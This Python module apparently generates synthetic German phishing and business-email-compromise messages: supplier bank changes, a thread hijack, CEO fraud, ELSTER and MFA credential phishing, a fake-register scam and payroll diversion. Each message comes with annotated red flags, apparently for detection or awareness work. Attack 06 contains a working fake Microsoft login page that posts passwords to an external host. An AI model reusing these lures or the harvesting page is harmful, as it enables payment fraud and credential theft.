"""Attacks, German (01-08)."""
from msgs import msg
from msgs.common import *  # noqa
from msgs.docs import lieferant_invoice, lieferant_letter
from lib import mta, mime, ids
from lib.mime import local
from lib.company import LIEF, ENT, S, P

LOOK_TENANT = dict(domain='lieferant-gnbh.de', id='e2a94c71-0b5d-4f38-9c6e-7d81a3f0b52c', mbx='FR4P281MB3517', pod='DEUP281',
                   fe='BEZP281MB2264', region='DEU01-FR2', lang='de-DE', dkim='onmicrosoft', onms='lieferantgnbh.onmicrosoft.com')


@msg('attack', 1, 'de', 'lieferant-lookalike-bankwechsel')
def a01(m):
    m.t = local('CET', 2026, 10, 13, 10, 7, 44)
    m.frm = ('Petra Lang', 'p.lang@lieferant-gnbh.de')
    m.to = [P('krueger')]
    m.subject = 'Aktualisierung unserer Bankverbindung – Lieferant GmbH'
    sysp = mta.M365(m, tenant=LOOK_TENANT, has_attach=True)
    new_iban = ids.de_iban('10010010', '0961338417')
    paras = [
        'Sehr geehrte Frau Krüger,',
        'im Zuge der Zusammenführung unseres Zahlungsverkehrs auf ein zentrales Cash-Management ändert sich zum 01.11.2026 unsere '
        'Bankverbindung. Die bisherige Verbindung bei der Sparkasse Hannover wird zum Monatsende aufgelöst; Zahlungseingänge dorthin '
        'können danach nicht mehr automatisch zugeordnet werden.',
        'Wir bitten Sie daher, ab sofort für alle offenen und künftigen Zahlungen ausschließlich die neue Bankverbindung aus dem '
        'beigefügten Schreiben zu verwenden. Dies betrifft bereits die beiden offenen Posten RE-2026-04388 (18.420,50 EUR) und '
        'RE-2026-04502 (7.936,20 EUR).',
        'Für unsere Unterlagen wäre ich Ihnen dankbar, wenn Sie mir die Umstellung kurz per E-Mail bestätigen. Bei Rückfragen erreichen Sie '
        'mich am besten mobil, da wir im Büro derzeit auf eine neue Telefonanlage umstellen.',
        'Vielen Dank für Ihre Unterstützung und die stets angenehme Zusammenarbeit.',
    ]
    sig = ('Mit freundlichen Grüßen\n\nPetra Lang\nAuftragsabwicklung / Debitorenmanagement\n\nLieferant GmbH\nIndustrieweg 12 · 30179 Hannover\n'
           'Mobil: +49 1521 4837906\np.lang@lieferant-gmbh.de\n\nSitz Hannover · HRB 203817, Amtsgericht Hannover · Geschäftsführer: Dipl.-Kfm. Werner Lieferant, Stefan Maier')
    plain_t, html_t = styles.outlook('de', paras, sig, charset='utf-8')
    letter = lieferant_letter(
        m, '12.10.2026', ('Example Group GmbH', 'Buchhaltung / Kreditoren', 'Hafenstraße 64', '34125 Kassel'),
        'Änderung unserer Bankverbindung zum 01.11.2026',
        ['Sehr geehrte Damen und Herren,',
         'aufgrund der Neuorganisation unseres Zahlungsverkehrs teilen wir Ihnen mit, dass unsere bisherige Bankverbindung bei der Sparkasse '
         'Hannover zum 31.10.2026 geschlossen wird. Bitte leisten Sie alle Zahlungen – auch für bereits gestellte, noch offene Rechnungen – '
         'ab sofort ausschließlich auf folgendes Konto:',
         'Kontoinhaber: Lieferant GmbH\nBank: Postbank – eine Niederlassung der Deutsche Bank AG\nIBAN: %s\nBIC: PBNKDEFFXXX' % ids.fmt_iban(new_iban),
         'Bitte passen Sie Ihre Stammdaten entsprechend an. Zahlungen auf die alte Bankverbindung können nach dem 31.10.2026 nicht mehr '
         'berücksichtigt werden und gelten nicht als schuldbefreiend.',
         'Wir danken Ihnen für Ihr Verständnis.'],
        ['Mit freundlichen Grüßen', '', 'Lieferant GmbH', '', 'i. A. Petra Lang', 'Debitorenmanagement'],
        producer='Microsoft® Word 2016', created=pdf_date(local('CET', 2026, 10, 12, 16, 51, 3)))
    root = mixed(m, [alt(m, plain_t, html_t), att(letter, 'application/pdf', 'Lieferant_GmbH_Bankverbindung_2026.pdf', style='outlook',
                                                    date=mime.rfc_date(m.t, 'UTC').replace('+0000', 'GMT'))])
    sysp.finish(root)
    m.describe('Supplier bank-detail change "from Petra Lang" of Lieferant GmbH with a letterhead PDF naming a new Postbank IBAN; '
               'asks to pay two open invoices there and to confirm by e-mail.',
               'Look-alike domain lieferant-gnbh.de (m→n) on a fresh Microsoft 365 tenant (DKIM only for lieferantgnbh.onmicrosoft.com, '
               'no DMARC record); signature still shows the real address; only a mobile number "because of a new phone system"; '
               'new IBAN differs from the known Sparkasse account; pressure on open items.',
               phones=['+49 1521 4837906'])


@msg('attack', 2, 'de', 'lieferant-thread-hijack-rechnung')
def a02(m):
    m.t = local('CET', 2026, 10, 22, 16, 48, 9)
    m.frm = LIEF['maier']
    m.to = [P('weiss')]
    m.cc = [P('krueger')]
    m.subject = 'Re: AW: Liefertermine Kieserit KW 45/46 – Bestellung 4500018273'
    m.in_reply_to = '<c3a8d41f0e7b4f26a95d2b1e8f407c63@EXCH02.corp.example.com>'
    m.references = ('<5e2c8a41d9f04b7ab3c61e0f2d98a7c4@EXCH01.corp.example.com> <004b01dd42e1$3c9a7d10$b5cf7730@lieferant-gmbh.de>\n'
                    ' <c3a8d41f0e7b4f26a95d2b1e8f407c63@EXCH02.corp.example.com>')
    bad_iban = ids.lt_iban('32500', '71946203185')
    attacker_ip = '194.165.16.73'
    sysp = mta.PostfixOrg(m, relay=LIEF['relay'], ip=LIEF['ip'], client='roundcube', dkim=('lieferant-gmbh.de', 'mail2025'),
                          client_host='localhost', client_ip='127.0.0.1', client_helo='webmail.lieferant-gmbh.de',
                          auth_user='s.maier@lieferant-gmbh.de',
                          extra_hops=[('Received', 'from %s ([%s])\n\tby webmail.lieferant-gmbh.de\n\twith HTTP (HTTP/1.1 POST); %s'
                                       % (attacker_ip, attacker_ip, mime.rfc_date(m.t, 'CET')))])
    pdf, gross = lieferant_invoice(m, 'RE-2026-04611', '19.10.2026', '4500018273',
                                   [('1', 'Kieserit granuliert (25 % MgO, 50 % SO3), lose\nSilozug, Lieferung 14.10.2026', 120, 182.40, 't')],
                                   bad_iban, 'REVOLT21', 'Revolut Bank UAB (Treuhand-/Verrechnungskonto)',
                                   qr_iban=LIEF['iban'], qr_bic=LIEF['bic'],
                                   producer='PDF24 Creator 11.21.0', creator='PDF24 Creator', delivery='LS-2026-11873',
                                   created=pdf_date(local('CET', 2026, 10, 22, 16, 31, 55)))
    body = ('Hallo Herr Weiß,\n\n'
            'danke, Lieferavis geht wie besprochen jeweils 24 h vorher an Frau Hartmann.\n\n'
            'Noch ein kurzer Hinweis in eigener Sache: wegen der laufenden Prüfung unseres Jahresabschlusses durch die '
            'Wirtschaftsprüfer werden Zahlungseingänge bis zum Jahresende über unser Treuhand-/Verrechnungskonto abgewickelt. '
            'Könnten Sie bitte Ihre Kreditorenbuchhaltung (Frau Krüger in cc) informieren, dass die Rechnung RE-2026-04611 '
            'über %s EUR und die folgenden Rechnungen auf die Verbindung in der angehängten Rechnungskopie gehen? '
            'Die Bankverbindung in Ihrem System bitte nicht löschen, das ist nur vorübergehend.\n\n'
            'Wäre super, wenn die 04611 noch diese Woche rausgeht, dann können wir die Silozüge für KW 45 fest einplanen.\n\n'
            'Viele Grüße\nStefan Maier\n\n'
            'Am 2026-10-21 09:14, schrieb Markus Weiß:\n'
            '> Hallo Herr Maier,\n>\n> passt so, vielen Dank. Bitte das Lieferavis jeweils 24 h vorher an\n> Lena Hartmann '
            '(lena.hartmann@example.com), damit die Annahme am Silo\n> besetzt ist.\n>\n> Viele Grüße\n> Markus Weiß\n>\n'
            '> Von: Stefan Maier <s.maier@lieferant-gmbh.de>\n> Gesendet: Dienstag, 20. Oktober 2026 10:22\n> An: Markus Weiß '
            '<markus.weiss@example.com>\n> Betreff: AW: Liefertermine Kieserit KW 45/46 – Bestellung 4500018273\n>\n'
            '> Hallo Herr Weiß,\n>\n> die 240 t aus der Bestellung 4500018273 liefern wir in zehn Silozügen,\n> Start Dienstag 03.11., '
            'dann täglich zwei Züge bis einschließlich 09.11.\n> Die Analysezertifikate kommen mit dem ersten Zug.\n>\n'
            '> Mit freundlichen Grüßen\n> Stefan Maier\n> Key Account Management\n> Lieferant GmbH\n' % eur(gross))
    txt = mime.Part([('Content-Type', 'text/plain; charset=UTF-8;\n format=flowed'), ('Content-Transfer-Encoding', '8bit')],
                    mime.encode_body(styles.flowed(body).encode('utf-8'), '8bit'))
    attp = mime.Part([('Content-Transfer-Encoding', 'base64'), ('Content-Type', 'application/pdf;\n name=RE-2026-04611.pdf'),
                      ('Content-Disposition', 'attachment;\n filename=RE-2026-04611.pdf;\n size=%d' % len(pdf))], mime.b64_encode(pdf))
    root = mime.multipart('mixed', [txt, attp], sysp.boundary(1))
    sysp.finish(root)
    m.describe('Thread hijack: reply in a real delivery thread about 240 t kieserite, sent from the genuine (compromised) mailbox of '
               'Stefan Maier; asks to pay RE-2026-04611 to a "temporary escrow account" shown in an edited invoice copy.',
               'Passes SPF/DKIM/DMARC because the real mailbox is used, but: sent via Roundcube webmail from a foreign hosting IP '
               '(194.165.16.73) while Maier normally writes with Outlook; quote style changes; Lithuanian EMI IBAN; the edited PDF '
               '(PDF24 instead of the ERP form server) still carries the original GiroCode with the old Sparkasse IBAN.')


@msg('attack', 3, 'de', 'ceo-fraud-projekt-nordlicht')
def a03(m):
    m.t = local('CET', 2026, 11, 5, 8, 12, 37)
    m.frm = ('Dr. Matthias Hoffmann', 'matthias.hoffmann@exarnple.com')
    m.to = [P('becker')]
    m.subject = 'Vertraulich – Projekt Nordlicht'
    sysp = mta.Zoho(m, client_ip='185.107.56.211')
    body = ('Frau Becker,\n\n'
            'ich brauche heute kurzfristig Ihre Unterstützung in einer vertraulichen Angelegenheit.\n\n'
            'Wir stehen unmittelbar vor der Unterzeichnung der Übernahme eines Düngemittel-Distributors in den Niederlanden '
            '(intern "Projekt Nordlicht"). Wegen der Verschwiegenheitsvereinbarung mit den Verkäufern darf bis zur Signatur '
            'niemand im Haus davon erfahren – bitte sprechen Sie auch nicht mit Frau Zimmermann oder dem Controlling darüber.\n\n'
            'Rechtsanwalt Dr. Pieter van Dijk von der begleitenden Kanzlei in Amsterdam meldet sich heute im Laufe des Vormittags '
            'bei Ihnen und schickt Ihnen die Angaben zur Anzahlung auf das Notar-Anderkonto. Die Zahlung muss heute noch raus, '
            'sonst verlieren wir die Exklusivität.\n\n'
            'Bitte bestätigen Sie mir kurz, dass Sie bis 16 Uhr erreichbar sind. Ich sitze den ganzen Tag in Verhandlungen und '
            'kann nicht telefonieren, daher bitte nur per Mail.\n\n'
            'Danke Ihnen.\n\nMatthias Hoffmann\n\nVon meinem iPhone gesendet')
    html_t = '<div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;">' + \
        ''.join('<div>%s</div>' % (styles.esc(l) or '<br>') for l in body.split('\n')) + '</div>'
    root = alt(m, body, '<!DOCTYPE html><html><head><meta content="text/html;charset=UTF-8" http-equiv="Content-Type"></head><body>' + html_t + '<br></body></html>',
               charset='UTF-8', cte='quoted-printable')
    sysp.finish(root)
    m.describe('CEO fraud: "the CEO" tells the CFO about a secret acquisition, announces a lawyer who will send escrow payment '
               'details, demands secrecy and e-mail-only contact.',
               'Look-alike domain exarnple.com ("rn" for "m") on Zoho Mail EU; no link, no attachment (text-only pretext mail that '
               'prepares the payment request); secrecy, urgency, "no phone" and the bypass of the normal approval chain.')


@msg('attack', 4, 'de', 'elster-zertifikat-verlaengerung')
def a04(m):
    m.t = local('CET', 2026, 10, 27, 7, 3, 12)
    m.frm = ('ELSTER - Ihr Online-Finanzamt', 'benachrichtigung@mein-elster-service.de')
    m.to = [P('zimmermann')]
    m.subject = 'Ihr ELSTER-Organisationszertifikat läuft am 31.10.2026 ab – Verlängerung erforderlich'
    sysp = mta.SendGrid(m, domain='mein-elster-service.de')
    track = sg_link(m, n=150)
    blocks = [
        '<p style="margin:0 0 14px 0;font-size:16px;font-weight:bold;">Benachrichtigung über den Ablauf Ihres Zertifikats</p>',
        'Sehr geehrte Nutzerin, sehr geehrter Nutzer,',
        'das Organisationszertifikat (Zertifikatsdatei .pfx) für das Benutzerkonto <b>Example Group GmbH</b> läuft am '
        '<b>31.10.2026</b> ab. Nach Ablauf ist eine Anmeldung in Mein ELSTER sowie die Übermittlung von Umsatzsteuer-Voranmeldungen, '
        'Lohnsteuer-Anmeldungen und Zusammenfassenden Meldungen nicht mehr möglich.',
        'Um Säumniszuschläge zu vermeiden, verlängern Sie das Zertifikat bitte rechtzeitig. Die Verlängerung dauert ca. 5 Minuten; '
        'halten Sie die bisherige Zertifikatsdatei und das zugehörige Passwort bereit.',
        '<p style="margin:0 0 14px 0;">Zertifikats-ID: 2F8A-41C7-9E03<br />Kontotyp: Organisationszertifikat (Nicht-natürliche Person)<br />'
        'Steuernummer: 026 252 *** **</p>',
    ]
    html_t = tx_html(blocks=blocks, brand='ELSTER', brand_color='#2d6a9f',
                     logo_html='<span style="font-size:22px;font-weight:bold;color:#2d6a9f;letter-spacing:1px;">ELSTER</span>'
                               '<span style="font-size:12px;color:#555555;"> &nbsp;Ihr Online-Finanzamt</span>',
                     button=('Zertifikat jetzt verlängern', track, '#2d6a9f'),
                     footer=['Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.',
                             'Bayerisches Landesamt für Steuern – Dienststelle München · ELSTER-Hotline: 0800 52 35 055',
                             '<a href="%s" style="color:#777777;">Datenschutz</a> · <a href="%s" style="color:#777777;">Impressum</a>'
                             % (sg_link(m, n=96), sg_link(m, n=96))],
                     preheader='Ihr Organisationszertifikat läuft in 4 Tagen ab.', title='ELSTER')
    plain_t = ('Benachrichtigung über den Ablauf Ihres Zertifikats\n\nSehr geehrte Nutzerin, sehr geehrter Nutzer,\n\n'
               'das Organisationszertifikat für das Benutzerkonto Example Group GmbH läuft am 31.10.2026 ab. Nach Ablauf ist eine '
               'Anmeldung in Mein ELSTER sowie die Übermittlung von Umsatzsteuer-Voranmeldungen nicht mehr möglich.\n\n'
               'Zertifikat jetzt verlängern:\n%s\n\nBayerisches Landesamt für Steuern · ELSTER-Hotline: 0800 52 35 055\n' % track)
    root = alt(m, plain_t, html_t, charset='utf-8', cte='quoted-printable')
    sysp.finish(root)
    m.describe('Credential phishing: ELSTER organisation-certificate "expires on 31.10.", button "Zertifikat jetzt verlängern" '
               'asks for the certificate file and its password.',
               'Sent via SendGrid for the throw-away domain mein-elster-service.de (DKIM/SPF pass for that domain only); ELSTER never '
               'mails links to renew certificates; the only link is a SendGrid click-tracking redirect hiding the destination; deadline pressure.',
               phones=['0800 52 35 055'])


@msg('attack', 5, 'de', 'mfa-erneuerung-qr-pdf')
def a05(m):
    m.t = local('CET', 2026, 11, 10, 6, 41, 2)
    victim = S['neumann']['addr']
    m.frm = ('Microsoft 365 Sicherheit', 'praxis@zahnarzt-albers-goettingen.de')
    m.to = [('Microsoft 365 Sicherheit', 'praxis@zahnarzt-albers-goettingen.de')]
    m.bcc = [P('neumann')]
    m.subject = 'Aktion erforderlich: Erneuerung der Multi-Faktor-Authentifizierung für %s' % victim
    sysp = mta.Strato(m, client_helo='vps-7c21e0a4', client_ip='45.95.147.36')
    url = 'https://m365-sicherheit-de.pages.dev/auth/#%s' % b64std(victim)
    qrm = qr_matrix(m, url, where='pdf')
    d = pdflib.PDF(title='MFA-Erneuerung', author='Microsoft', creator='Microsoft® Word für Microsoft 365', producer='Microsoft® Word für Microsoft 365',
                   created=pdf_date(local('CET', 2026, 11, 9, 23, 12, 40)))
    p = d.page()
    for i, col in enumerate([(0.95, 0.31, 0.13), (0.5, 0.73, 0.0), (0.0, 0.64, 0.94), (1.0, 0.73, 0.0)]):
        p.rect(56 + (i % 2) * 11, 786 - (i // 2) * 11, 10, 10, rgb=col)
    p.text(86, 790, 'Microsoft', 'F1', 17, color=(0.45, 0.45, 0.45))
    p.text(56, 740, 'Erneuerung Ihrer Multi-Faktor-Authentifizierung (MFA)', 'F2', 15)
    y = p.para(56, 712, 480, 'Für das Konto %s ist die Registrierung der Sicherheitsinformationen abgelaufen. Gemäß der '
               'Sicherheitsrichtlinie Ihrer Organisation muss die Multi-Faktor-Authentifizierung alle 12 Monate bestätigt werden.' % victim, 'F1', 11)
    y = p.para(56, y - 6, 480, 'Wird die Bestätigung nicht innerhalb von 24 Stunden abgeschlossen, werden der Zugriff auf Outlook, Teams und '
               'SharePoint sowie die Synchronisierung auf Mobilgeräten vorübergehend gesperrt.', 'F1', 11)
    y = p.para(56, y - 6, 480, 'So gehen Sie vor:', 'F2', 11)
    y = p.para(70, y, 460, '1. Öffnen Sie die Kamera-App Ihres Smartphones.\n2. Scannen Sie den folgenden QR-Code.\n'
               '3. Melden Sie sich mit Ihrem Geschäftskonto an und bestätigen Sie die Anfrage in der Authenticator-App.', 'F1', 11)
    p.qr(qrm, 220, y - 190, 5.0)
    p.text(56, y - 225, 'Aus Sicherheitsgründen ist dieser Code nur für Ihr Konto gültig und läuft nach 24 Stunden ab.', 'F4', 9.5, color=(0.4, 0.4, 0.4))
    p.line(56, 80, 539, 80, 0.4, 0.7)
    p.text(56, 66, 'Microsoft Corporation · One Microsoft Way · Redmond, WA 98052 · Datenschutzerklärung', 'F1', 7.5, color=(0.45, 0.45, 0.45))
    pdf = d.bytes()
    body = ('Guten Morgen,\n\nfür Ihr Konto %s steht die jährliche Bestätigung der Multi-Faktor-Authentifizierung aus.\n\n'
            'Bitte öffnen Sie das angehängte Dokument und scannen Sie den QR-Code mit Ihrem Smartphone, um die Erneuerung abzuschließen. '
            'Ohne Bestätigung wird der Zugriff auf Outlook und Teams in 24 Stunden eingeschränkt.\n\nIhr IT-Sicherheitsteam\n' % victim)
    root = mixed(m, [plain(body, 'iso-8859-1', 'quoted-printable'),
                     att(pdf, 'application/pdf', 'MFA_Erneuerung_%s.pdf' % victim.split('@')[0].replace('.', '_'), style='outlook',
                         date=mime.rfc_date(m.t, 'UTC').replace('+0000', 'GMT'))], slot=M)
    sysp.finish(root)
    m.describe('Quishing: "Microsoft 365 security" demands MFA renewal within 24 h; the PDF carries a QR code to a fake Microsoft login.',
               'Sent from a compromised mailbox of a dental practice on Strato (DKIM/SPF pass for that domain, display name "Microsoft 365 '
               'Sicherheit"), recipient hidden in Bcc; QR code moves the click to the phone; destination on pages.dev with the victim\'s '
               'address base64-encoded in the fragment; internal IT never sends MFA renewal as PDF.')


@msg('attack', 6, 'de', 'erechnung-html-anhang')
def a06(m):
    m.t = local('CET', 2026, 11, 17, 14, 26, 51)
    m.frm = ('Elektro Hesse GmbH - Buchhaltung', 'buchhaltung@elektro-hesse-baunatal.de')
    m.to = [P('krueger')]
    m.subject = 'Rechnung 2026-1187 / Wartung Niederspannungsschaltanlage Halle 3'
    sysp = mta.UnitedInternet(m, brand='ionos', client='thunderbird', client_ip='102.89.33.118')
    victim = S['krueger']['addr']
    action = 'https://erechnung-viewer.cloud/zugferd/session/%s' % m.hex(24)
    html_att = ('<!DOCTYPE html>\n<html lang="de">\n<head>\n<meta charset="utf-8">\n<title>E-Rechnung (ZUGFeRD 2.3) – Dokumentenansicht</title>\n'
                '<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f3f2f1;margin:0}'
                '.box{width:380px;margin:70px auto;background:#fff;padding:34px 40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}'
                'h1{font-size:20px;font-weight:600;margin:14px 0 6px}p{font-size:13px;color:#444}'
                'input{width:100%;padding:8px 0;border:0;border-bottom:1px solid #666;font-size:15px;margin:10px 0 18px}'
                'button{background:#0067b8;color:#fff;border:0;padding:9px 28px;font-size:15px;float:right}'
                '.doc{font-size:12px;color:#666;border:1px solid #ddd;padding:8px;margin:12px 0}</style>\n</head>\n<body>\n'
                '<div class="box">\n<div style="font-size:18px;color:#737373">&#9632;&#9632; Microsoft</div>\n'
                '<h1>Geschützte E-Rechnung anzeigen</h1>\n'
                '<p>Diese E-Rechnung wurde über den Microsoft 365 Dokumentenschutz freigegeben. Bitte bestätigen Sie Ihre Identität, '
                'um das Dokument zu öffnen.</p>\n'
                '<div class="doc">Rechnung_2026-1187_ZUGFeRD.pdf &middot; 214 KB &middot; Elektro Hesse GmbH</div>\n'
                '<form method="post" action="%ACTION%">\n<input type="email" name="login" value="%VICTIM%" readonly>\n'
                '<input type="password" name="passwd" placeholder="Kennwort">\n<button type="submit">Anmelden</button>\n</form>\n'
                '<p style="clear:both;padding-top:24px;font-size:11px">Nutzungsbedingungen &nbsp; Datenschutz &amp; Cookies</p>\n</div>\n'
                '</body>\n</html>\n').replace('%ACTION%', action).replace('%VICTIM%', victim)
    body = ('Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie unsere Rechnung Nr. 2026-1187 über die Wartung und '
            'Thermografie-Prüfung der Niederspannungsschaltanlage in Halle 3 (Einsatz vom 09. bis 11.11.2026) als E-Rechnung '
            'im ZUGFeRD-Format.\n\nDie Rechnung kann direkt im Browser geöffnet werden.\n\nFür Rückfragen stehen wir Ihnen gern zur Verfügung.\n\n'
            'Mit freundlichen Grüßen\n\ni. A. Monika Sauer\nBuchhaltung\n\nElektro Hesse GmbH\nElektroanlagen · Schaltanlagenbau · Prüfungen nach DGUV V3\n'
            'Porschestraße 18 · 34225 Baunatal\nTel. 05601 8927-0\n')
    tb = mime.Part([('Content-Type', 'text/plain; charset=UTF-8; format=flowed'), ('Content-Transfer-Encoding', '8bit')],
                   mime.encode_body(styles.flowed(body).encode('utf-8'), '8bit'))
    root = mixed(m, [tb, att(html_att.encode('utf-8'), 'text/html; charset=UTF-8', 'Rechnung_2026-1187_ZUGFeRD.html', style='thunderbird')])
    sysp.finish(root)
    m.describe('HTML-attachment phishing: "e-invoice (ZUGFeRD)" from an electrical contractor; the .html attachment is a local fake '
               'Microsoft sign-in page pre-filled with the victim\'s address, posting the password to an external host.',
               'Real but compromised IONOS mailbox of a small regional firm (DKIM/SPF pass) submitted from a Nigerian mobile IP; '
               'a ZUGFeRD invoice is a PDF with embedded XML, never an HTML page asking for a Microsoft password; form action on erechnung-viewer.cloud.',
               phones=['05601 8927-0'])


@msg('attack', 7, 'de', 'register-eintragung-offerte')
def a07(m):
    m.t = local('CET', 2026, 11, 24, 9, 30, 5)
    m.frm = ('Unternehmensregister Eintragungsservice', 'eintragung@unternehmensregister-service.de')
    m.to = [P('lorenz')]
    m.reply_to = ('Eintragungsservice', 'antwort@unternehmensregister-service.de')
    m.subject = 'Eintragung HRB 17429 – Example Group GmbH – Ihre Rückmeldung bis 04.12.2026'
    sysp = mta.Brevo(m, domain='unternehmensregister-service.de')
    iban = ids.de_iban('70020270', '0015839247')
    az = 'UR-2026/1748-K'
    pdf = doc_pdf(m, head='Unternehmensregister Eintragungsservice', head_sub=('Zentrale Erfassungsstelle · Postfach 20 11 47 · 80011 München',),
                  recipient=('Example Group GmbH', 'Geschäftsleitung', 'Hafenstraße 64', '34125 Kassel'),
                  meta=(('Aktenzeichen', az), ('Registernummer', 'HRB 17429'), ('Registergericht', 'Amtsgericht Kassel'), ('Datum', '24.11.2026')),
                  title='Eintragungsantrag / Aktualisierung der Unternehmensdaten',
                  intro=('Die im Handelsregister veröffentlichten Daten Ihres Unternehmens wurden in unser Verzeichnis übernommen. '
                         'Bitte prüfen Sie die Angaben, ergänzen Sie ggf. fehlende Informationen und senden Sie das Formular unterschrieben '
                         'innerhalb von 10 Tagen zurück.',
                         'Firma: Example Group GmbH · Sitz: Kassel · Gegenstand: Herstellung und Vertrieb von Düngemitteln · '
                         'Geschäftsführer: Dr. Matthias Hoffmann'),
                  table=(('Leistung', 'Laufzeit', 'Betrag EUR'), [('Eintragung und Veröffentlichung im Online-Verzeichnis\n'
                                                                  'inkl. Branchenzuordnung, Suchmaschinen-Listung', '24 Monate', '1.596,00')],
                         (300, 90, 93), ('l', 'l', 'r')),
                  totals=(('Jahresbeitrag', '798,00 EUR', False), ('zzgl. 19 % USt.', '303,24 EUR', False), ('Gesamt (24 Monate)', '1.899,24 EUR', True)),
                  after=('Mit Ihrer Unterschrift beauftragen Sie die Eintragung zu den oben genannten Konditionen. Die Rechnung ist innerhalb '
                         'von 7 Tagen nach Erhalt ohne Abzug zu zahlen auf: IBAN %s · BIC HYVEDEMMXXX · Verwendungszweck: %s.' % (ids.fmt_iban(iban), az),
                         'Ort, Datum, Unterschrift / Firmenstempel: ____________________________________________'),
                  footer=('Unternehmensregister Eintragungsservice ist ein privates Verzeichnis und steht in keiner Verbindung zu öffentlichen '
                          'Registern. Die Eintragung ist freiwillig. Es gelten unsere AGB.',),
                  creator='Microsoft® Word 2019', producer='Microsoft® Word 2019', color=(0.15, 0.25, 0.45),
                  doc_title='Eintragungsantrag %s' % az)
    blocks = ['Sehr geehrte Damen und Herren,',
              'zu Ihrem Unternehmen <b>Example Group GmbH (HRB 17429, Amtsgericht Kassel)</b> liegt uns eine unvollständige Eintragung vor. '
              'Wir bitten Sie, die Daten im beigefügten Formular zu prüfen und uns dieses bis spätestens <b>04.12.2026</b> unterschrieben '
              'zurückzusenden (per E-Mail als Scan genügt).',
              'Aktenzeichen: <b>%s</b>' % az,
              'Mit freundlichen Grüßen<br />Ihr Eintragungsservice']
    html_t = tx_html(blocks=blocks, brand='Unternehmensregister · Eintragungsservice', brand_color='#243f73',
                     footer=['Unternehmensregister Eintragungsservice · Postfach 20 11 47 · 80011 München',
                             'Sie erhalten diese Nachricht als im Handelsregister eingetragenes Unternehmen.'], lang='de')
    plain_t = styles.html_to_text(html_t)
    root = mixed(m, [alt(m, plain_t, html_t, cte='quoted-printable'),
                     att(pdf, 'application/pdf', 'Eintragungsantrag_%s.pdf' % az.replace('/', '-'), style='generic')])
    sysp.finish(root)
    m.describe('Register/directory scam: official-looking "Unternehmensregister" form asking to "update" the HRB entry; signing it '
               'orders a 24-month listing for 1,899.24 EUR payable to the IBAN on the form.',
               'Private directory impersonating the official Unternehmensregister, sent through Brevo from its own domain; the cost is only '
               'in the fine print of the PDF; deadline; the real registers do not solicit signed forms by e-mail.')


@msg('attack', 8, 'de', 'gehaltskonto-aenderung-gmx')
def a08(m):
    m.t = local('CET', 2026, 11, 19, 21, 4, 48)
    m.frm = ('Frank Neumann', 'frank.neumann.ks@gmx.de')
    m.to = [P('schaefer')]
    m.subject = 'Neue Bankverbindung Gehalt'
    sysp = mta.UnitedInternet(m, brand='gmx', client='web', client_ip='89.187.171.146')
    iban = ids.de_iban('50024024', '7193846051')
    body = ('Hallo Julia,\n\nich habe meine Hausbank gewechselt und bräuchte für die November-Abrechnung schon die neue Verbindung. '
            'Kannst du das bitte im System ändern?\n\nKontoinhaber: Frank Neumann\nIBAN: %s\nBank: C24 Bank\n\n'
            'Ich schreibe dir von privat, weil ich die Woche Urlaub habe und nicht ins Firmenpostfach komme. '
            'Gib mir bitte kurz Bescheid, wenn es erledigt ist, damit das Gehalt nicht noch aufs alte Konto geht.\n\n'
            'Danke dir!\nGruß Frank' % ids.fmt_iban(iban))
    html_t = ('<html><head></head><body><div style="font-family: Verdana;font-size: 12.0px;"><div>'
              + '</div>\n\n<div>'.join(styles.linkify(l) if l else '&nbsp;' for l in body.split('\n')) + '</div></div></body></html>')
    root = alt(m, body, html_t, charset='UTF-8', cte='quoted-printable')
    sysp.finish(root)
    m.describe('Payroll diversion: "Frank Neumann" asks HR from a private GMX address to switch his salary to a new C24 Bank IBAN before '
               'the November run and to confirm.',
               'Free-mail address not known for the employee (the real private address used in business/08 is different), sent from a '
               'hosting IP in the evening, bank change without the HR form or ESS portal, urgency around the payroll date.')
